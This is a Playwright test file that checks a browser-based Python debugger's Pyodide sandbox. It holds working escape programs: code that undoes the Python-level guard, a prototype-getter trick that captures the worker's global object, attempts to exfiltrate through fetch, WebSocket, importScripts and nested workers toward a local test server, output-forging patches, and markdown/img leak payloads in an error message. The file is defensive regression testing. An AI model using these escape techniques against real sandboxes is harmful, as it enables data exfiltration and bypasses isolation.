// Debugged code stays inside Python in the browser: a program (empty Call, run at once) that tries
// to open a cache or an IndexedDB database of the app's origin, or to send a request, through
// Python's doors to JavaScript or past them, leaves the origin as it was and sends nothing; the
// Python worker's realm holds none of those APIs; ordinary programs run as before. Past Python's
// layer and holding the worker's real global object, a program still creates no storage (no
// storage bucket, cache, database or OPFS file) and sends no request, to the app's origin or to a
// server the test runs: the worker lives in an opaque-origin frame under a policy that allows no
// request (src/realEngine/browser/engineFrame.ts). An exception's message is shown as text, never as
// Markdown: no image fetched, no link made.
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { after, before, describe, it } from 'node:test';
import { join } from 'node:path';
import { LOAD_TIMEOUT, ROOT, button, idle, openApp, output, pasteCode, press, startStatic, status } from './helpers.mjs';
import { useApp } from './setup.mjs';

const MARK = 'ndb-sandbox-probe';

/** Leaves patched print and json.dumps behind in the interpreter it ran in. */
const POISONING_PROGRAM = [
  'import json, builtins',
  '_dumps = json.dumps',
  'def dumps(obj, *args, **kwargs):',
  '    if isinstance(obj, dict) and "stdout" in obj:',
  '        obj["stdout"] = "FORGED"',
  '    return _dumps(obj, *args, **kwargs)',
  'json.dumps = dumps',
  'builtins.print = lambda *a, **k: None',
  '',
].join('\n');

/** Gets past Python's own layer as an expert could (sandbox.py says why it is not the boundary):
 * the guard's state, reached from the tracer's globals, undone. */
const PAST_PYTHON = [
  'import sys',
  'g = sys.gettrace().__func__.__globals__',
  'guard = g["ndb_sandbox"]._guard',
  'guard.depth = 0',
  'sys.modules.update(guard.hidden)',
  'sys.meta_path.remove(g["ndb_sandbox"]._HiddenFinder)',
  'sys.meta_path.extend(f for _, f in getattr(guard, "finders", []))',
  'import js, pyodide_js',
  '',
].join('\n');

/** Past Python's layer, then the worker's real global object (found by an attacker on 2026-11-26):
 * a getter on `Object.prototype` for `fetch`, a name Pyodide reads as a free global and which the
 * worker deleted from its own global object, runs with `this` = that global object when Pyodide
 * reads a file. Leaves it in `G` and prints what it is. */
const TO_GLOBAL_OBJECT = [
  PAST_PYTHON,
  'from pyodide.ffi import create_proxy',
  'found = []',
  'O = pyodide_js.constructor',
  'O.defineProperty(O.prototype, "fetch", O.fromEntries([["get", create_proxy(lambda this: found.append(this), capture_this=True)], ["configurable", True]]))',
  'try:',
  '    pyodide_js._api.loadBinaryFile("http://ndb.invalid/x")',
  'except Exception:',
  '    pass',
  'G = found[0]',
  'print("reached", G.constructor.name)',
  '',
].join('\n');

/** With the worker's global object: prints which of the closed APIs are still there and which ways
 * to make code from a string still work. */
const REALM_PROBE = [
  TO_GLOBAL_OBJECT,
  'NAMES = ["fetch", "XMLHttpRequest", "WebSocket", "EventSource", "caches", "indexedDB", "Worker", "SharedWorker", "BroadcastChannel", "importScripts", "postMessage", "FontFace"]',
  'makers = {"eval": lambda: G.eval("1"), "Function": lambda: G.Function("return 1"), "constructor": lambda: pyodide_js.runPython.constructor("return 1"), "setTimeout": lambda: G.setTimeout("1")}',
  'works = []',
  'for name, make in makers.items():',
  '    try:',
  '        make()',
  '        works.append(name)',
  '    except Exception:',
  '        pass',
  'print(f"open: {[n for n in NAMES if getattr(G, n, None) is not None]}")',
  'print(f"code from strings: {works}")',
  '',
].join('\n');

/** With the worker's global object, every way to storage of the app's origin and to the network a
 * worker has: named storage buckets (each with its Cache Storage, where `cache.add` sends a
 * request, IndexedDB and OPFS), the origin's own Cache Storage, IndexedDB and OPFS, fetch,
 * XMLHttpRequest, WebSocket, EventSource, WebTransport, importScripts, a font load, a beacon, a
 * nested worker, Pyodide's package loader; to `other` (a server the test runs) and to `self` (the
 * app's origin). A worker has no images and no `sendBeacon`; both are tried anyway. Prints what
 * did not throw at once (what it started may still fail later, which is the point). */
function escapingProgram(other, self) {
  return [
    TO_GLOBAL_OBJECT,
    `MARK = ${JSON.stringify(MARK)}`,
    `URLS = [${JSON.stringify(`${other}/${MARK}`)}, ${JSON.stringify(`${self}${MARK}`)}]`,
    'tried = []',
    'def attempt(name, action):',
    '    try:',
    '        action()',
    '        tried.append(name)',
    '    except Exception:',
    '        pass',
    'then = lambda promise, step: promise.then(create_proxy(step))',
    'def use_caches(storage):',
    '    def fill(cache):',
    '        for url in URLS:',
    '            attempt("cache.add", lambda: cache.add(url + "/cache-add"))',
    '        attempt("cache.put", lambda: cache.put(URLS[1] + "/put", G.Response.new("x")))',
    '    attempt("caches.open", lambda: then(storage.open(MARK), fill))',
    'def use_opfs(root):',
    '    attempt("OPFS file", lambda: root.getFileHandle(MARK, O.fromEntries([["create", True]])))',
    'def use_bucket(bucket):',
    '    use_caches(bucket.caches)',
    '    attempt("bucket indexedDB", lambda: bucket.indexedDB.open(MARK))',
    '    attempt("bucket OPFS", lambda: then(bucket.getDirectory(), use_opfs))',
    'for name in [MARK, "default"]:',
    '    attempt("storageBuckets.open", lambda: then(G.navigator.storageBuckets.open(name), use_bucket))',
    'attempt("caches", lambda: use_caches(G.caches))',
    'attempt("indexedDB", lambda: G.indexedDB.open(MARK))',
    'attempt("OPFS", lambda: then(G.navigator.storage.getDirectory(), use_opfs))',
    'for url in URLS:',
    '    attempt("fetch", lambda: G.fetch(url + "/fetch"))',
    '    attempt("Request", lambda: G.Request.new(url + "/request"))',
    '    def xhr():',
    '        x = G.XMLHttpRequest.new()',
    '        x.open("GET", url + "/xhr")',
    '        x.send()',
    '    attempt("XMLHttpRequest", xhr)',
    '    attempt("WebSocket", lambda: G.WebSocket.new(url.replace("http", "ws", 1) + "/ws"))',
    '    attempt("EventSource", lambda: G.EventSource.new(url + "/sse"))',
    '    attempt("WebTransport", lambda: G.WebTransport.new(url.replace("http", "https", 1) + "/wt"))',
    '    attempt("importScripts", lambda: G.importScripts(url + "/import.js"))',
    '    attempt("FontFace", lambda: G.FontFace.new("x", "url(" + url + "/font)").load())',
    '    attempt("sendBeacon", lambda: G.navigator.sendBeacon(url + "/beacon", "x"))',
    '    attempt("Image", lambda: setattr(G.Image.new(), "src", url + "/image.png"))',
    '    attempt("nested worker", lambda: G.Worker.new("data:text/javascript,fetch(" + repr(url + "/nested") + ")"))',
    '    attempt("loadPackage", lambda: pyodide_js.loadPackage(url + "/package.whl"))',
    'print("tried", sorted(set(tried)))',
    '',
  ].join('\n');
}

const PROGRAMS = {
  'js-caches': `import js\njs.caches.open("${MARK}")\n`,
  'js-fetch': `import js\njs.fetch("/${MARK}/fetch")\n`,
  'run-js': `from pyodide.code import run_js\nrun_js("caches.open('${MARK}'); indexedDB.open('${MARK}'); fetch('/${MARK}/run-js')")\n`,
  pyfetch: `from pyodide.http import open_url\nopen_url("/${MARK}/open-url")\n`,
  'past-python-eval': `${PAST_PYTHON}pyodide_js.runPython.constructor("caches.open('${MARK}'); indexedDB.open('${MARK}'); fetch('/${MARK}/eval')")()\n`,
  'past-python-js': `${PAST_PYTHON}js.caches.open("${MARK}")\n`,
  'past-python-load': `${PAST_PYTHON}pyodide_js.loadPackage("/${MARK}/package.whl")\n`,
};

let page;
let errors;
const requests = [];

async function runModule(code) {
  await pasteCode(page, code);
  await page.getByLabel('Call', { exact: true }).fill('');
  await button(page, 'Restart').click();
  await page.locator('[role="toolbar"][aria-busy="false"]').waitFor({ timeout: LOAD_TIMEOUT });
  await idle(page);
}

async function origin() {
  return page.evaluate(async () => ({
    caches: (await caches.keys()).sort(),
    databases: (await indexedDB.databases()).map((d) => d.name).sort(),
  }));
}

/** Runs REALM_PROBE to its end: it reached the worker's global object, and nothing is open there. */
async function probeRealm() {
  await runModule(REALM_PROBE);
  await button(page, 'Continue').click();
  await idle(page);
  assert.equal(await output(page), 'reached DedicatedWorkerGlobalScope\nopen: []\ncode from strings: []\n');
}

/** A server of another origin that records every request it gets (and would answer any, to any
 * origin, as a careless or a hostile server does). */
async function startTarget() {
  const hits = [];
  const server = createServer((req, res) => {
    hits.push(`${req.method} ${req.url}`);
    res.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Cross-Origin-Resource-Policy': 'cross-origin', 'Content-Type': 'text/plain' });
    res.end('x');
  });
  server.on('upgrade', (req, socket) => {
    hits.push(`UPGRADE ${req.url}`);
    socket.destroy();
  });
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    url: `http://127.0.0.1:${server.address().port}`,
    hits,
    close: () => new Promise((resolve) => server.close(resolve)),
  };
}

/** The app's origin as the page sees it: storage buckets, caches, databases, OPFS entries. */
async function originState() {
  return page.evaluate(async () => {
    const opfs = [];
    for await (const name of (await navigator.storage.getDirectory()).keys()) opfs.push(name);
    return {
      buckets: navigator.storageBuckets ? (await navigator.storageBuckets.keys()).sort() : [],
      caches: (await caches.keys()).sort(),
      databases: (await indexedDB.databases()).map((d) => d.name).sort(),
      opfs: opfs.sort(),
    };
  });
}

/** Runs escapingProgram against `target` and the app's origin; afterwards the origin has no new
 * bucket, cache, database or OPFS file, and no request was sent. */
async function nothingGetsOut(target, appUrl) {
  const before = await originState();
  const seen = requests.length;
  await runModule(escapingProgram(target.url, appUrl));
  await button(page, 'Continue').click();
  await idle(page);
  assert.match(await output(page), /^reached DedicatedWorkerGlobalScope\ntried /);
  // What the program started (promise chains, sockets) has settled by now.
  await page.waitForTimeout(3000);
  const after = await originState();
  // All in one comparison, so that a failure shows everything that got out.
  const got = {
    buckets: after.buckets.filter((n) => !before.buckets.includes(n)),
    opfs: after.opfs.filter((n) => !before.opfs.includes(n)),
    // The service worker may still be filling its caches: only the program's names count here.
    caches: after.caches.filter((n) => n.includes(MARK)),
    databases: after.databases.filter((n) => n.includes(MARK)),
    otherOrigin: target.hits,
    seenByBrowser: requests.slice(seen).filter((u) => u.includes(MARK)),
  };
  assert.deepEqual(got, { buckets: [], opfs: [], caches: [], databases: [], otherOrigin: [], seenByBrowser: [] });
}

/** The saved interpreter (the warm start's memory snapshot) as [path, digest] pairs. */
async function savedInterpreter() {
  return page.evaluate(async () => {
    const cache = await caches.open('ndb-pyodide-snapshot');
    return Promise.all((await cache.keys()).map(async (r) => [new URL(r.url).pathname, (await cache.match(r)).headers.get('X-Ndb-Sha256')]));
  });
}

/** Hovers the text of line 1 and returns the hover that says where the run failed. */
async function errorHover() {
  const hover = page.locator('.monaco-hover').filter({ hasText: 'The run failed here' });
  for (let attempt = 0; attempt < 5 && !(await hover.isVisible()); attempt++) {
    await page.mouse.move(0, 0);
    await page.locator('.monaco-editor .view-lines .view-line').first().hover({ position: { x: 40 + 10 * attempt, y: 8 } });
    await hover.waitFor({ timeout: 3000 }).catch(() => undefined);
  }
  await hover.waitFor({ timeout: 1000 });
  return hover;
}

describe('the sandbox in the browser', () => {
  const app = useApp({ open: '' });
  before(() => {
    ({ page, errors } = app);
    app.browser.context.on('request', (r) => requests.push(r.url()));
  });

  it("closes the Python worker's realm: no storage, network, other realm or code from strings", async () => {
    // Seen from inside, as a program past Python's layer sees it (Playwright's own evaluate in the
    // worker needs eval, which the worker no longer has).
    await probeRealm();
  });

  it('runs the next program in a fresh interpreter: what one leaves behind does not reach it', async () => {
    // patches print and json.dumps (which the tracer uses after the program), then a second
    // program prints: it must show its own output, recorded honestly
    await runModule(POISONING_PROGRAM);
    await runModule('print("mine")\n');
    await button(page, 'Continue').click();
    await idle(page);
    assert.match(await status(page).textContent(), /^Program finished/);
    assert.equal(await output(page), 'mine\n');
  });

  it('leaves the origin untouched and sends nothing, whatever the program tries', async () => {
    const before = await origin();
    for (const [name, code] of Object.entries(PROGRAMS)) {
      await runModule(code);
      const shown = await status(page).textContent();
      assert.doesNotMatch(shown, /^Program finished/, `${name}: ${shown}`);
    }
    await runModule(`import js\nprint("${MARK}")\n`);
    // the first stop does not tell how the run ends (issue 46): the refusal shows where it happens
    await press(page, 'Continue');
    assert.match(await status(page).textContent(), /sandbox/);
    // Anything the programs set going would have happened by now.
    await page.waitForTimeout(1000);
    assert.deepEqual(await origin(), before);
    assert.deepEqual(requests.filter((u) => u.includes(MARK)), []);
  });

  it('runs ordinary programs as before', async () => {
    await page.getByLabel('Example').selectOption({ label: 'A for loop that sums' });
    await idle(page);
    assert.match(await status(page).textContent(), /^call of total \(line 1\)/);
    await runModule('import json, re, collections\nc = collections.Counter(re.findall("[a-z]", "abca"))\ns = json.dumps(c)\n');
    await button(page, 'Continue').click();
    await idle(page);
    assert.match(await status(page).textContent(), /^Program finished/);
    assert.deepEqual(errors, []);
  });
});

describe("the Python worker's realm, reached past Python's layer", () => {
  const app = useApp({ open: '' });
  let target;
  before(async () => {
    ({ page, errors } = app);
    app.browser.context.on('request', (r) => requests.push(r.url()));
    target = await startTarget();
  });
  after(() => target?.close());

  let saved;

  it('has the interpreter its first worker saved before any program ran, stored by the page', async () => {
    // The page stores it while the first program runs: it may take a moment.
    const deadline = Date.now() + LOAD_TIMEOUT;
    saved = await savedInterpreter();
    while (saved.length === 0 && Date.now() < deadline) {
      await page.waitForTimeout(250);
      saved = await savedInterpreter();
    }
    assert.equal(saved.length, 1);
    assert.match(saved[0][0], /^\/pyodide\/ndb-snapshot-[0-9a-f]{16}\.bin$/);
    assert.match(saved[0][1], /^[0-9a-f]{64}$/);
  });

  it("creates no storage of the app's origin and sends no request", async () => {
    await nothingGetsOut(target, app.server.url);
  });

  it("shows an exception's message as text: no image fetched, no link made", async () => {
    const image = `${target.url}/${MARK}.png?leak=1`;
    const link = `${target.url}/${MARK}-fix`;
    const message = `![s](${image}) [Open the fix](${link}) <img src="${image}&html=1"> www.example.com`;
    await runModule(`raise RuntimeError(${JSON.stringify(message)})\n`);
    await button(page, 'Continue').click();
    await idle(page);
    const hover = await errorHover();
    const shown = (await hover.textContent()).includes(`The run failed here: RuntimeError: ${message}`);
    await page.waitForTimeout(1000);
    const made = await page.evaluate((mark) => [...document.querySelectorAll('a[href], img[src]')].map((e) => e.href || e.src).filter((u) => u.includes(mark) || u.includes('example.com')), MARK);
    assert.deepEqual({ shown, made, requests: target.hits }, { shown: true, made: [], requests: [] }, await hover.textContent());
  });

  it('keeps that interpreter whatever the programs did, and restores it on the next visit', async () => {
    assert.deepEqual(await savedInterpreter(), saved);
    await page.addInitScript(() => {
      new MutationObserver(() => {
        if (document.body?.textContent?.includes('restoring the interpreter')) globalThis.ndbSawRestoring = true;
      }).observe(document, { childList: true, subtree: true, characterData: true });
    });
    await page.reload();
    await page.locator('main[data-engine="ready"]').waitFor({ timeout: LOAD_TIMEOUT });
    assert.equal(await page.evaluate(() => globalThis.ndbSawRestoring === true), true);
  });
});

describe('the sandbox on a host that sends no headers, with no service worker', () => {
  // No cross-origin isolation and no service worker (a first visit to a static host, or a browser
  // that refuses service workers): the frame's policy is in its own document, so it holds here too.
  const app = useApp({ open: '', start: () => startStatic(join(ROOT, 'dist'), '/'), options: { serviceWorkers: 'block' } });
  let target;
  before(async () => {
    ({ page, errors } = app);
    app.browser.context.on('request', (r) => requests.push(r.url()));
    target = await startTarget();
  });
  after(() => target?.close());

  it('still leaves no storage, network or way to make code from a string', async () => {
    await probeRealm();
  });

  it("creates no storage of the app's origin and sends no request", async () => {
    await nothingGetsOut(target, app.server.url);
  });
});

/** The saved interpreter's entry: its path, the digest stored with it, and whether its bytes have it. */
async function savedEntry() {
  return page.evaluate(async () => {
    const cache = await caches.open('ndb-pyodide-snapshot');
    const [request] = await cache.keys();
    if (!request) return null;
    const res = await cache.match(request);
    const bytes = await res.arrayBuffer();
    const hex = Array.from(new Uint8Array(await crypto.subtle.digest('SHA-256', bytes)), (b) => b.toString(16).padStart(2, '0')).join('');
    return { path: new URL(request.url).pathname, digest: res.headers.get('X-Ndb-Sha256'), intact: hex === res.headers.get('X-Ndb-Sha256') };
  });
}

/** The stages Python's start went through on this page (the app marks each one). */
async function startStages() {
  return page.evaluate(() => performance.getEntriesByType('mark').map((m) => m.name).filter((n) => n.startsWith('ndb:engine-')).map((n) => n.slice('ndb:engine-'.length)));
}

async function waitFor(probe, ok) {
  const deadline = Date.now() + LOAD_TIMEOUT;
  let got = await probe();
  while (!ok(got) && Date.now() < deadline) {
    await page.waitForTimeout(250);
    got = await probe();
  }
  return got;
}

describe('a warm start from a saved interpreter whose bytes were damaged', () => {
  const app = useApp({ open: '' });
  before(() => ({ page, errors } = app));

  it('does not use it: Python starts the plain way, runs programs, and a good one is saved in its place', async () => {
    const first = await waitFor(savedEntry, (e) => e?.intact === true);
    assert.ok(first?.intact, 'the first start saved an interpreter');
    // The same entry, its digest kept, with one byte in every 4 KiB past the first flipped.
    await page.evaluate(async () => {
      const cache = await caches.open('ndb-pyodide-snapshot');
      const [request] = await cache.keys();
      const res = await cache.match(request);
      const bytes = new Uint8Array(await res.arrayBuffer());
      for (let i = 4096; i < bytes.length; i += 4096) bytes[i] ^= 0xff;
      await cache.put(request, new Response(bytes, { headers: res.headers }));
    });
    assert.equal((await savedEntry()).intact, false);
    await openApp(page, app.server.url);
    assert.deepEqual(await startStages(), ['fetching', 'starting', 'tracer', 'ready']);
    await runModule('x = 6 * 7\nprint(x)\n');
    await button(page, 'Continue').click();
    await idle(page);
    assert.match(await status(page).textContent(), /^Program finished/);
    assert.equal(await output(page), '42\n');
    const again = await waitFor(savedEntry, (e) => e?.intact === true);
    assert.deepEqual(again && { path: again.path, intact: again.intact }, { path: first.path, intact: true });
    // and the next start restores the good one
    await openApp(page, app.server.url);
    assert.deepEqual(await startStages(), ['fetching', 'restoring', 'tracer', 'ready']);
    assert.deepEqual(errors, []);
  });
});
